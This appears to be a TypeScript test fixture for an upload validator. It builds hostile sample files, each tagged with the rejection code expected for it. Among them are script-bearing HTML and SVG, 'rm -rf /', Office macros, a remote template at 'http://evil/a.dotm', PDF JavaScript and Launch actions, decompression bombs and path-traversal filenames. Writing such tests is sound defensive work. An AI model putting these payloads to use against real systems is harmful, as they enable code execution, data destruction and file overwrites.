import { deflateSync } from 'node:zlib';
import { compound } from './compound.js';
import { hwp, hwpx, office, pdf, png, jpeg, webp } from './documents.js';
import type { File } from './upload.js';
import { zip } from './zip.js';

const file = (name: string, bytes: Buffer | string): File => ({ name, bytes: Buffer.from(bytes as string) });
const part = (name: string, text = 'x'): { name: string; bytes: Buffer } => ({
  name,
  bytes: Buffer.from(text),
});
const EXE = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(500)]);
const PAGE = '<!doctype html><script>alert(1)</script>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const MACROS = part('word/vbaProject.bin', 'Attribute VB_Name');
const remote = part(
  'word/_rels/settings.xml.rels',
  '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/></Relationships>',
);
const archive = (): Buffer => zip([part('a.txt')]);
const joined = (...parts: Buffer[]): Buffer => Buffer.concat(parts);

/** Each with the code of the problem it meets. */
export const HOSTILE: [what: string, code: string, make: () => File | Promise<File>][] = [
  ['empty', 'file.empty', () => file('a.pdf', '')],
  ['a page under the name of a PDF', 'file.markup', () => file('a.pdf', PAGE)],
  ['a page', 'file.markup', () => file('a.html', PAGE)],
  ['a page under the name of a text', 'file.markup', () => file('a.txt', `  \n${PAGE}`)],
  ['a page with a harmless beginning', 'file.markup', () => file('a.txt', `안녕하십니까\n${PAGE}`)],
  ['a page in UTF-16', 'file.markup', () => file('a.txt', Buffer.from(`\uFEFF${PAGE}`, 'utf16le'))],
  ['a drawing', 'file.markup', () => file('a.svg', SVG)],
  ['a drawing under the name of a picture', 'file.markup', () => file('a.png', SVG)],
  ['a drawing with a declaration', 'file.', () => file('a.svg', `<?xml version="1.0"?>${SVG}`)],
  ['a script', 'file.markup', () => file('a.txt', '#!/bin/sh\nrm -rf /')],
  ['a script by its name', 'file.type', () => file('a.js', 'alert(1)')],
  ['a program', 'file.type', () => file('a.exe', EXE)],
  ['a program under the name of a document', 'file.type', () => file('a.hwp', EXE)],
  [
    'a program for Linux',
    'file.type',
    () => file('a.pdf', joined(Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(100))),
  ],
  ['an archive', 'file.type', () => file('a.zip', archive())],
  ['an archive under the name of a document', 'file.type', () => file('a.docx', archive())],
  [
    'another archive',
    'file.type',
    () => file('a.7z', Buffer.from('377abcaf271c0004' + '00'.repeat(40), 'hex')),
  ],
  ['a document with macros', 'file.macros', () => file('a.docm', office('word/document.xml', [MACROS]))],
  [
    'a document with macros, renamed',
    'file.macros',
    () => file('a.docx', office('word/document.xml', [MACROS])),
  ],
  [
    'a sheet that says it has macros',
    'file.macros',
    () =>
      file(
        'a.xlsx',
        zip([
          part('[Content_Types].xml', '<Types>application/vnd.ms-excel.sheet.macroEnabled.main+xml</Types>'),
          part('xl/workbook.xml'),
        ]),
      ),
  ],
  [
    'a sheet with old macros',
    'file.macros',
    () => file('a.xlsx', office('xl/workbook.xml', [part('xl/macrosheets/sheet1.xml')])),
  ],
  [
    'a document that loads a template from elsewhere',
    'file.active',
    () => file('a.docx', office('word/document.xml', [remote])),
  ],
  [
    'a document with a program in it',
    'file.active',
    () => file('a.pptx', office('ppt/presentation.xml', [part('ppt/media/a.exe')])),
  ],
  [
    'a HWPX with a script behind a line that is none',
    'file.macros',
    () => file('a.hwpx', hwpx([part('Scripts/more', '//\u2028Run("cmd");')])),
  ],
  [
    'a HWPX with a script',
    'file.macros',
    () => file('a.hwpx', hwpx([part('Scripts/more', 'function OnDocument_Open() { Run("cmd"); }')])),
  ],
  [
    'a HWPX with a password',
    'file.encrypted',
    () => file('a.hwpx', hwpx([part('META-INF/manifest.xml', '<odf:encryption-data/>')])),
  ],
  ['a HWPX that is something else', 'file.mixed', () => file('a.hwpx', hwpx([], 'application/epub+zip'))],
  ['a HWP with a password', 'file.encrypted', () => file('a.hwp', hwp(1 | (1 << 1)))],
  ['a HWP under rights management', 'file.encrypted', () => file('a.hwp', hwp(1 | (1 << 4)))],
  ['a HWP with a script', 'file.macros', () => file('a.hwp', hwp(1 | (1 << 3)))],
  [
    'a HWP with PostScript in it',
    'file.active',
    () => file('a.hwp', hwp(1, { 'BIN0001.eps': Buffer.alloc(10) })),
  ],
  ['a HWP cut short', 'file.broken', () => file('a.hwp', hwp().subarray(0, 700))],
  ['a HWP whose table runs in a ring', 'file.broken', () => file('a.hwp', ring())],
  ['an old document', 'file.old_office', () => file('a.doc', compound({ WordDocument: Buffer.alloc(5000) }))],
  [
    'an old document under the name of a new one',
    'file.old_office',
    () => file('a.hwp', compound({ Workbook: Buffer.alloc(5000) })),
  ],
  [
    'a document with a password',
    'file.encrypted',
    () =>
      file('a.docx', compound({ EncryptedPackage: Buffer.alloc(5000), EncryptionInfo: Buffer.alloc(100) })),
  ],
  [
    'an archive with a password',
    'file.encrypted',
    () => file('a.docx', zip([{ ...part('word/document.xml'), encrypted: true }])),
  ],
  [
    'two documents in one',
    'file.mixed',
    () => file('a.docx', office('word/document.xml', [part('xl/workbook.xml')])),
  ],
  ['a PDF with an archive behind it', 'file.mixed', () => file('a.pdf', joined(pdf(), archive()))],
  [
    'a PDF that is a page, too',
    'file.mixed',
    () => file('a.pdf', Buffer.from(pdf().toString('latin1').replace('\n', `\n${PAGE}\n`), 'latin1')),
  ],
  ['a PDF that acts', 'file.active', () => file('a.pdf', pdf('/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>'))],
  [
    'a PDF that acts, in other letters',
    'file.active',
    () => file('a.pdf', pdf('/AA<</O<</S/J#61vaScript/JS(1)>>>>')),
  ],
  [
    'a PDF that acts in packed objects',
    'file.active',
    () => file('a.pdf', pdf('', deflateSync('1 0 <</S/JavaScript/JS(app.alert(1))>>'))),
  ],
  [
    'a PDF with packed objects that nobody can read',
    'file.broken',
    () => file('a.pdf', pdf('', Buffer.from('x'))),
  ],
  ['a PDF that starts programs', 'file.active', () => file('a.pdf', pdf('/A<</S/Launch/F(cmd.exe)>>'))],
  ['a PDF that is cut short', 'file.broken', () => file('a.pdf', pdf().subarray(0, 100))],
  ['a PDF behind something else', 'file.', () => file('a.pdf', joined(Buffer.from('GIF89a/*'), pdf()))],
  ['a picture with an archive behind it', 'file.mixed', () => file('a.png', joined(png(), archive()))],
  ['a picture with a page behind it', 'file.mixed', () => file('a.png', joined(png(), Buffer.from(PAGE)))],
  ['a photograph with an archive behind it', 'file.mixed', () => file('a.jpg', joined(jpeg(), archive()))],
  ['a photograph with a page in it', 'file.mixed', () => file('a.jpg', commented(PAGE))],
  [
    'a picture with something behind it',
    'file.mixed',
    () => file('a.webp', joined(webp(), Buffer.alloc(100, 'a'))),
  ],
  ['a picture of ten thousand million dots', 'file.bomb', () => file('a.png', png(100_000, 100_000))],
  ['a moving picture', 'file.type', () => file('a.gif', Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1'))],
  [
    'a document that is full of nothing',
    'file.bomb',
    () =>
      file('a.docx', office('word/document.xml', [{ name: 'word/x.xml', bytes: Buffer.alloc(60_000_000) }])),
  ],
  [
    'a document that says it is endless',
    'file.bomb',
    () => file('a.docx', office('word/document.xml', [{ ...part('word/x.xml'), claimed: 4_000_000_000 }])),
  ],
  [
    'a document that unpacks to more than it says',
    'file.broken',
    () =>
      file(
        'a.docx',
        office('word/document.xml', [{ name: 'word/x.xml', bytes: Buffer.alloc(4_000_000), claimed: 10 }]),
      ),
  ],
  [
    'a document that leads out of itself',
    'file.broken',
    () => file('a.docx', office('word/document.xml', [part('../../etc/cron.d/x')])),
  ],
  [
    'a document that leads to another disk',
    'file.broken',
    () => file('a.docx', office('word/document.xml', [part('C:\\x')])),
  ],
  [
    'a document behind something else',
    'file.',
    () => file('a.docx', joined(Buffer.from('#!/bin/sh\n'), office('word/document.xml'))),
  ],
  [
    'of ten thousand parts',
    'file.bomb',
    () => file('a.docx', zip(Array.from({ length: 10_001 }, (_, n) => part(`word/${n}.xml`, '')))),
  ],
  ['neither text nor anything', 'file.type', () => file('a.txt', Buffer.from([1, 2, 3, 200, 0, 1]))],
  ['of a kind nobody knows', 'file.type', () => file('README', 'text')],
  ['named by a path', 'invalid', () => file('../../etc/passwd.txt', 'text')],
  ['named by a path of Windows', 'invalid', () => file('..\\..\\a.txt', 'text')],
  ['named with NUL', 'invalid', () => file('a.txt\0.png', 'text')],
  ['named to be read backwards', 'invalid', () => file('보고\u202Etxt.exe.txt', 'text')],
  ['named like a device', 'invalid', () => file('NUL.txt', 'text')],
  ['named with a second name', 'invalid', () => file('a.txt:b.txt', 'text')],
  ['named at too great length', 'invalid', () => file(`${'가'.repeat(300)}.txt`, 'text')],
];

/** The directory of the parts says that one follows itself. */
function ring(): Buffer {
  const bytes = hwp();
  const directory = bytes.readUInt32LE(48);
  bytes.writeUInt32LE(directory, 512 + directory * 4);
  return bytes;
}

/** What cameras write into photographs, with something else instead. */
function commented(text: string): Buffer {
  const photograph = jpeg();
  const head = Buffer.from([0xff, 0xfe, 0, text.length + 2]);
  return joined(photograph.subarray(0, 2), head, Buffer.from(text), photograph.subarray(2));
}
